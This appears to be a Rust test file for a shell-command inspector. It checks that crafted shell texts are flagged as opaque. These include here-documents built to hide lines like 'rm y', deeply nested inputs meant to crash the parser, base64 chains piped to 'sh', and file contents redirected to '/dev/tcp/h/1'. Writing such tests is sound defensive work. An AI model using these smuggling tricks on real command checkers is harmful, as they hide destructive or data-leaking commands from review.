//! Texts that once held the shell parser for ever, took all memory, ended the program, or hid commands from it: each must
//! come back, opaque. Ordinary texts that look alike must still be understood.

use std::collections::BTreeMap;

use creel_inspect::{Place, Shell, Understood, command};

fn look(text: &str) -> Understood {
    let variables = BTreeMap::new();
    command(text, Shell::Posix, &Place { cwd: "/home/a", home: "/home/a", user: "a", variables: &variables })
}

/// As the daemon's threads: with their stack, a text that nests without end would end the program.
fn refused(texts: &[String]) {
    for text in texts {
        let understood = look(text);
        let start: String = text.chars().take(60).collect();
        assert!(understood.opaque && !understood.parsed, "{start}");
    }
}

fn nested(open: &str, close: &str, times: usize) -> String {
    format!("{}x{}", open.repeat(times), close.repeat(times))
}

#[test]
fn here_documents_without_a_plain_end_word_are_refused() {
    refused(
        &[
            "cat <<'' x 'd e' ",
            "cat <<\"\" $(",
            "cat <<\\'EOF\\'$( > .gi-1t/hooks/pre-coxargs ",
            "cat <<\r ",
            "echo \\<<<'' x ",
            "$(cat << ;",
            "$(cat << )",
            "cat <<a$(b c)d\nx\nb\nrm y\na$(b c)d\n",
            "cat <<\"a$(b c)\"\nx\n",
            // Shells and the parser disagree about where these end.
            "cat <<\"a\\b\"\nx\na\\b\nrm y\nab\n",
            "cat <<'a\"b'\nx\na\"b\nrm y\nab\n",
            "cat <<E'O'F\nx\nEOF\n",
            "cat <<EOF\nE\\\nOF\nrm y\nEOF\n",
            "cat <<EOF\nx\\\nEOF\nrm y\n",
            "cat <<-EOF\n\tE\\\nOF\nrm y\nEOF\n",
        ]
        .map(str::to_owned),
    );
    refused(&[211, 212].map(|run| format!("cat {}'' x 'd e' ", "<".repeat(run))));
}

#[test]
fn what_nests_without_end_is_refused() {
    let open = "(".repeat(28);
    refused(&[
        format!("diff <{open}curl x"),
        format!("{open} # {}", ")".repeat(30)),
        format!("{open}x ; ) {} y)", ")".repeat(18)),
        // Closing brackets in quotes close nothing.
        "{ \")\"; ".repeat(4000),
        format!("echo \"'\"; {}; echo \"'\"", nested("{ ", "; }", 4000)),
        "{ > } ; ".repeat(4000),
        "{ echo } ; ".repeat(4000),
        "{ [[ ]] =~ ( b ) } ]] ; ".repeat(4000),
        "{ coproc \n } ".repeat(4000),
        "i\\\nf x; then ".repeat(4000),
        "$[".repeat(50_000),
        "a[".repeat(50_000),
        nested("case a in esac) ", " ;; esac", 40),
        nested("case a in a) ", " ; esac", 38),
        format!("{} )", nested("case a in a) ", "\nesac", 38)),
        nested("function f case a in a) ", " esac", 38),
        format!("a[{}", "b\"c\"d[".repeat(30)),
        format!("[[ {} a ]]", "! ".repeat(50_000)),
        format!("[[ a =~ {}", "( ".repeat(30)),
        "coproc ".repeat(20_000),
    ]);
}

#[test]
fn repeated_work_over_long_texts_is_refused() {
    refused(&[
        format!("cat <<A {}\nA\n", "a ".repeat(60_000)),
        format!("cat{}\n{}", " <<A".repeat(20_000), "A\n".repeat(20_000)),
        format!("cat <<'{}'\n{}", "A".repeat(100_000), "\n".repeat(100_000)),
        "cat a 18446744073709551616> /dev/tcp/h/1".to_owned(),
        "cat a 184467440\\\n73709551616> /dev/tcp/h/1".to_owned(),
    ]);
}

#[test]
fn output_that_grows_from_command_to_command_is_not_followed_for_ever() {
    // Each stage makes it a third longer.
    let grown = look(&format!("echo ls {}| sh", "| base64 ".repeat(60)));
    assert!(grown.parsed && grown.opaque);
    let turned = look(&format!("cat <<'EOF' {}| sh\n{}EOF\n", "| rev ".repeat(4000), "a line\n".repeat(8000)));
    assert!(turned.parsed && turned.opaque);
}

#[test]
fn a_text_that_is_not_at_its_end_is_refused() {
    refused(&["ls &&", "ls |", "f()", "coproc", "echo a\\", "if x; then", "cat <<EOF\nx\n"].map(str::to_owned));
}

#[test]
fn ordinary_texts_that_look_alike_are_understood() {
    let long = format!("cat > a.txt <<'EOF'\n{}EOF\nls", "a line (of words), \"of\" it's <kind>;\n".repeat(4000));
    for text in [
        "grep -rn '<<<<<<<' .",
        "cat <<< ''",
        "cat <<<'a b'",
        "cat <<'EOF'\nx\nEOF\n",
        "cat <<'EOF'\nx\nEOF",
        "cat <<\\EOF | wc -l\nx\nEOF\n",
        "cat <<-EOF\n\tx \\\n\ty\n\tEOF\n",
        "git commit -m \"$(cat <<'EOF'\nA title (with brackets)\n\nIt's text; and << more.\nEOF\n)\"",
        "cat > a.cpp <<'EOF'\nstd::cout << (x << 2) << \"a\\n\" << std::endl;\nEOF\ng++ a.cpp",
        "echo $((1 << (2 + x)))",
        "((x <<= 2)); ((y = x << z))",
        "echo 12345678901 > a; ls 2>&1",
        "f() { if true; then (cd a; ls); fi; }; for i in 1 2; do (ls)\ndone",
        "echo waiting for the server if any; case $1 in a) ls ;; b) ls\nesac",
        "a[1]=2; b[\"$k\"]='[[[[[[]]]]]]'; c[${i}]=$(ls); ls file[0-9].txt",
        "ls # don't",
        "[[ a == b && ! -f c ]] || ls",
        "ls &",
        "",
        &long,
    ] {
        let start: String = text.chars().take(60).collect();
        assert!(look(text).parsed, "{start}");
    }
    assert_eq!(look("ls").commands.len(), 1, "what is added at a text's end is taken away again");
}
